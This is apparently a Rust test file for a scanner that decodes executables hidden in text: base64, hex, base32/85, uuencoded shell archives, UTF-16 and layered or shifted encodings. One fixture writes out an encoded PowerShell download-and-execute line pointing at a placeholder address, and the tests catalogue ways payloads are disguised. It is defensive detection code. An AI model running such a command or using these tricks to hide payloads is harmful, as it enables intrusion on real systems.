#[test]
fn words_behind_the_padding_are_no_content() {
    let cut = |text: &[u8]| without_words_behind(base64::decode(text));
    assert_eq!(cut(b"TVqQAA==bye"), b"MZ\x90\0");
    let parts = [b"TVqQAA==".as_slice(), &[b'A'; 80]].concat();
    assert_eq!(cut(&parts).len(), 64);
}

use super::*;
use crate::unpack::tests::{opened, pe};

fn encode(data: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    data.chunks(3)
        .map(|chunk| {
            let bits = chunk
                .iter()
                .fold(0u32, |bits, byte| bits << 8 | u32::from(*byte))
                << (8 * (3 - chunk.len()));
            (0..4)
                .map(|at| {
                    if at > chunk.len() {
                        '='
                    } else {
                        ALPHABET[(bits >> (18 - 6 * at) & 63) as usize] as char
                    }
                })
                .collect::<String>()
        })
        .collect()
}

fn kinds(text: &str) -> Vec<Kind> {
    opened("encoded", text.as_bytes())
        .0
        .into_iter()
        .map(|child| child.kind)
        .collect()
}

fn lines(text: &str, width: usize, join: &str) -> String {
    text.as_bytes()
        .chunks(width)
        .map(|line| String::from_utf8_lossy(line))
        .collect::<Vec<_>>()
        .join(join)
}

#[test]
fn what_shell_scripts_hold_in_lines_is_decoded() {
    let block = "begin 644 a.txt\n#0V%T\n`\nend\n";
    let lines_of_shar = block.replace('\n', "\nX");
    for script in [
        format!("#!/bin/sh\nuudecode << 'E'\n{block}E\n"),
        format!("#!/bin/sh\nsed 's/^X//' << 'E' | uudecode\nX{lines_of_shar}\nE\n"),
    ] {
        let children = opened("encoded", script.as_bytes()).0;
        assert_eq!(children.len(), 1, "{script}");
        assert_eq!(children[0].data, b"Cat".as_slice());
        assert_eq!(children[0].label(), "a.txt");
    }
    let mut builder = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_ustar();
    header.set_size(7);
    header.set_path("a.txt").unwrap();
    header.set_cksum();
    builder.append(&header, &b"content"[..]).unwrap();
    let tar = builder.into_inner().unwrap();
    let script = |tar: &[u8]| format!("#!/bin/sh\necho\n{}\n", lines(&encode(tar), 92, "\n"));
    assert_eq!(kinds(&script(&tar)), [Kind::Tar]);
    assert_eq!(kinds(&script(&tar[..90])), []);
}

#[test]
fn base64_of_a_program_is_decoded_however_it_is_laid_out() {
    let whole = encode(&pe());
    for text in [
        format!("the program follows\n{whole}\nand that was it"),
        format!("x\n\n{}\n\nbye", lines(&whole, 76, "\r\n")),
        format!("s = \"{}\"", lines(&whole, 60, "\" & _\r\n    \"")),
        format!("var s = '{}';", lines(&whole, 60, "' +\n '")),
        format!(
            "<v:shape o:gfxdata=\"{}&#xA;\"/>",
            lines(&whole, 76, "&#xA;")
        ),
        format!("<v:shape o:gfxdata=\"{}\"/>", lines(&whole, 76, " ")),
        format!("AVeryLongWordOfTheSameAlphabet\n{whole}"),
        format!("s = \"{}\"", whole.chars().rev().collect::<String>()),
        format!("<a href=\"data:application/octet-stream;base64,{whole}\">x</a>"),
    ] {
        let (found, _) = opened("encoded", text.as_bytes());
        assert_eq!(found.len(), 1, "{text}");
        assert_eq!(
            (found[0].kind, found[0].via),
            (Kind::Pe, Some("decoded-text"))
        );
        assert!(found[0].at.is_some());
        assert!(found[0].data.starts_with(&pe()), "{text}");
    }
}

#[test]
fn base64_in_a_text_of_two_bytes_a_character_and_of_such_a_text() {
    let wide = |text: &str| {
        text.encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>()
    };
    let (found, _) = opened("encoded", &wide(&format!("payload: {}\r\n", encode(&pe()))));
    assert_eq!(
        (found.len(), found[0].kind, found[0].at.clone()),
        (1, Kind::Pe, None)
    );
    let script =
        wide("$c = New-Object Net.WebClient\r\n$c.DownloadString('http://192.0.2.1/a') | iex\r\n");
    assert_eq!(
        kinds(&format!("powershell -enc {}", encode(&script))),
        [Kind::Ps1]
    );
}

#[test]
fn numbers_of_a_program_are_decoded_in_every_usual_notation() {
    let join = |separator: &str, write: fn(&u8) -> String| {
        pe().iter().map(write).collect::<Vec<_>>().join(separator)
    };
    for text in [
        join("", |byte| format!("{byte:02x}")),
        join("", |byte| format!("{byte:02X}")),
        join(" ", |byte| format!("{byte:02X}")),
        join(",", |byte| format!("{byte:02X}")),
        join("-", |byte| format!("{byte:02X}")),
        join("", |byte| format!("\\x{byte:02x}")),
        join("", |byte| format!("%{byte:02x}")),
        join(" ", |byte| format!("0x{byte:02X}")),
        join(", ", |byte| format!("0x{byte:x}")),
        join(",", |byte| format!("&H{byte:X}")),
        join(",", |byte| format!("{byte}")),
        lines(&join("", |byte| format!("{byte:02x}")), 64, "\" & _\r\n \""),
    ] {
        assert_eq!(
            kinds(&format!("x = \"{text}\"")),
            [Kind::Pe],
            "{}",
            text.get(..60).unwrap_or_default()
        );
    }
}

#[test]
fn certificates_pictures_and_ordinary_data_are_no_children() {
    let picture = [b"\x89PNG\r\n\x1a\n".to_vec(), vec![7; 200]].concat();
    let random: Vec<u8> = (0..600u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
        .collect();
    for text in [
        format!("<img src=\"data:image/png;base64,{}\">", encode(&picture)),
        format!(
            "-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----",
            lines(
                &encode(&[&[0x30, 0x82, 4, 0][..], &random].concat()),
                64,
                "\n"
            )
        ),
        format!("key = {}", encode(&random)),
        format!(
            "greeting = {}",
            encode(
                "Just some words of a longer sentence that goes on for a while and ends here."
                    .as_bytes()
            )
        ),
        "77 lines of text, 90 words each, 144 pages in all: 3,0,0,0,4 and so on".to_owned(),
        "4d5a".repeat(400),
        format!("MZ {}", "A".repeat(5000)),
    ] {
        assert_eq!(kinds(&text), [], "{text}");
    }
    let short = encode(b"MZ");
    assert_eq!(kinds(&short), []);
}

#[test]
fn many_runs_are_capped_and_said() {
    let text = (0..CHILDREN + 3)
        .map(|_| encode(&pe()))
        .collect::<Vec<_>>()
        .join("\n\nnext: ");
    let (found, facts) = opened("encoded", text.as_bytes());
    assert_eq!(found.len(), CHILDREN);
    assert!(facts.iter().any(|fact| matches!(
        fact,
        Fact::Limit {
            halt: Halt::Ceiling(_),
            ..
        }
    )));
}

#[test]
fn two_bytes_among_numbers_make_no_compressed_file() {
    let numbers = |third: u8, flags: u8| {
        let data = (0u8..60).map(|at| match at {
            0 => 31,
            1 => 139,
            2 => third,
            3 => flags,
            at => at.wrapping_mul(37),
        });
        data.map(|byte| format!("{byte}, ")).collect::<String>()
    };
    assert_eq!(kinds(&numbers(8, 0)), [Kind::Gz]);
    assert_eq!(kinds(&numbers(8, 0xc0)), []);
    assert_eq!(kinds(&numbers(70, 0)), []);
}

#[test]
fn programs_under_several_layers_are_decoded_and_ordinary_runs_are_not() {
    let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut packer, &pe()).unwrap();
    let packed = packer.finish().unwrap();
    let twice = encode(encode(&pe()).as_bytes());
    let thrice = encode(twice.as_bytes());
    for text in [
        twice.clone(),
        thrice,
        encode(&packed),
        encode(encode(&packed).as_bytes()),
    ] {
        let (children, _) = opened("encoded", text.as_bytes());
        assert_eq!(children.len(), 1);
        assert_eq!(children[0].data, pe());
    }
    let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut packer, &b"words and words and numbers ".repeat(40)).unwrap();
    assert_eq!(kinds(&encode(&packer.finish().unwrap())), []);
    assert_eq!(kinds(&encode(encode(&[7; 900]).as_bytes())), []);
}

#[test]
fn a_program_written_as_a_certificate_ends_where_it_does() {
    let text = format!(
        "-----BEGIN CERTIFICATE-----\r\n{}\r\n-----END CERTIFICATE-----\r\n",
        lines(
            &encode(&[pe(), vec![0; (4 - pe().len() % 3) % 3]].concat()),
            64,
            "\r\n"
        )
    );
    let (children, _) = opened("encoded", text.as_bytes());
    assert!(
        children[0].data.len() <= pe().len() + 2,
        "{}",
        children[0].data.len()
    );
}

/// Bytes in a notation of whole groups: five bits a character, or five characters for four bytes.
fn in_base(data: &[u8], base: Base) -> String {
    let letters: Vec<char> = (0..=u8::MAX)
        .map(|value| {
            let values = base.values();
            let found = (b'!'..=b'~').find(|one| values[usize::from(*one)] == value);
            found.map_or(' ', char::from)
        })
        .collect();
    if base == Base::Base32 {
        let bits: String = data.iter().map(|byte| format!("{byte:08b}")).collect();
        let groups = bits.as_bytes().chunks_exact(5);
        let value = |group| usize::from_str_radix(std::str::from_utf8(group).unwrap(), 2).unwrap();
        return groups.map(|group| letters[value(group)]).collect();
    }
    let groups = data.chunks_exact(4).map(|four| {
        let number = u32::from_be_bytes(four.try_into().unwrap());
        let digits = (0..5u32).rev().map(|power| number / 85u32.pow(power) % 85);
        digits
            .map(|digit| letters[digit as usize])
            .collect::<String>()
    });
    groups.collect()
}

#[test]
fn base32_and_base85_of_a_program_are_decoded() {
    let mut program = pe();
    program.resize(program.len().next_multiple_of(20), 0);
    for base in crate::formats::bases::BASES {
        let whole = in_base(&program, base);
        for text in [
            whole.clone(),
            format!("the program follows\n\n{}\n", lines(&whole, 76, "\n")),
        ] {
            assert_eq!(kinds(&text), [Kind::Pe], "{base:?} {text:.40}");
        }
        let (children, _) = opened("encoded", whole.as_bytes());
        assert_eq!(children[0].data, program, "{base:?}");
        // Too short, and of something else.
        assert!(kinds(whole.get(..40).unwrap()).is_empty(), "{base:?}");
        let text = b"only words, and nothing of a program in them ".repeat(8);
        assert!(kinds(&in_base(&text, base)).is_empty(), "{base:?}");
    }
    let whole = in_base(&program, Base::Base32);
    assert_eq!(
        kinds(&format!(
            "d = (\"{}\")",
            lines(&whole.to_ascii_lowercase(), 60, "\"\n     \"")
        )),
        [Kind::Pe]
    );
}

#[test]
fn a_program_whose_pairs_are_swapped_is_decoded() {
    let program = pe();
    let pairs = program.as_chunks::<2>().0.iter();
    let swapped: Vec<u8> = pairs.flat_map(|[one, two]| [*two, *one]).collect();
    let hexadecimal: String = swapped.iter().map(|byte| format!("{byte:02x}")).collect();
    assert_eq!(kinds(&hexadecimal), [Kind::Pe]);
    assert_eq!(kinds(&encode(&swapped)), [Kind::Pe]);
    let words = [b"ZM".as_slice(), &[0x20; 300]].concat();
    assert!(kinds(&encode(&words)).is_empty());
}

#[test]
fn a_program_whose_numbers_are_moved_is_decoded() {
    let mut program = pe();
    program.splice(2..6, [0x90, 0, 3, 0]);
    let moved = |by: i32| {
        let numbers = program
            .iter()
            .map(|byte| (i32::from(*byte) + by).to_string());
        format!("var a=[{}];", numbers.collect::<Vec<_>>().join(","))
    };
    for by in [3, 1000, -5] {
        assert_eq!(kinds(&moved(by)), [Kind::Pe], "{by}");
    }
    let values: Vec<_> = (0..900).map(|at| (at * 7 % 300).to_string()).collect();
    assert!(kinds(&format!("var a=[{}];", values.join(","))).is_empty());
}
